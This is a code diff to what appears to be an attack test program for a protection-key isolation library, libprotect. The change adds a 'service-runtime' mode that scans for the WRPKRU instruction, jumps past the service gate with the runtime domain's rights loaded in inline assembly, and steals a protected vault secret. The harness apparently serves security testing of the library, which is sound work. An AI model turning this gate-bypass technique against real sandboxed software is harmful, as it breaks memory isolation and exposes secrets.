@@ -4,8 +4,9 @@
  * that check accepts (a caller library's), and a stack of the attacker's;
  * or past the service gate's WRPKRU (libprotect's runtime with a library's
  * rights), with the library's rights in eax and a service that reads every
- * thread's counts.
- * gate_jump onto|past|exit|service */
+ * thread's counts; or the same into libprotect's runtime domain (slot 15,
+ * its rights, its memory-call service).
+ * gate_jump onto|past|exit|service|service-runtime */
 #include "attack.h"
 #include "gate_stub.h"
 #include "libprotect_symbols.h"
@@ -58,14 +59,20 @@ static const volatile uint8_t *steal_by_exit(void *arg)
     return NULL;
 }
 
+/* Past the service gate's WRPKRU: with the vault's rights and service 4
+ * (every thread's counts), or (RUNTIME) with the runtime domain's rights,
+ * slot 15, and its memory-call service. */
+static int runtime;
+
 static const volatile uint8_t *steal_by_service(void *arg)
 {
     const uint8_t *past = arg;
-    const uint32_t *rights = libprotect_symbol("protect_gate_page"); /* the vault's: domain 0 */
+    const uint32_t *table = libprotect_symbol("protect_gate_page"); /* domain 0: the vault */
+    uint32_t rights = runtime ? table[15 * 128 / 4] : table[0], slot = runtime ? 15 : 0, svc = runtime ? 0 : 4;
     static uint64_t answer[16];
-    __asm__ volatile("mov %2, %%eax\n xor %%ebx, %%ebx\n mov $4, %%r13d\n lea %3, %%r12\n"
+    __asm__ volatile("mov %2, %%eax\n mov %4, %%ebx\n mov %5, %%r13d\n lea %3, %%r12\n"
                      "xor %%ecx, %%ecx\n xor %%edx, %%edx\n call *%1"
-                     ::"r"(0), "r"(past), "r"(rights[0]), "m"(answer[0])
+                     ::"r"(0), "r"(past), "m"(rights), "m"(answer[0]), "m"(slot), "m"(svc)
                      : "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "r12", "r13", "memory");
     return vault_address(VAULT_DATA)->secret;
 }
@@ -73,7 +80,8 @@ static const volatile uint8_t *steal_by_service(void *arg)
 int main(int argc, char **argv)
 {
     vault_open();
-    if (argc > 1 && strcmp(argv[1], "service") == 0) {
+    runtime = argc > 1 && strcmp(argv[1], "service-runtime") == 0;
+    if (argc > 1 && (strcmp(argv[1], "service") == 0 || runtime)) {
         const uint8_t *svc = libprotect_symbol("protect_service");
         for (int i = 0; svc && i < 4096; i++)
             if (svc[i] == 0x0f && svc[i + 1] == 0x01 && svc[i + 2] == 0xef)
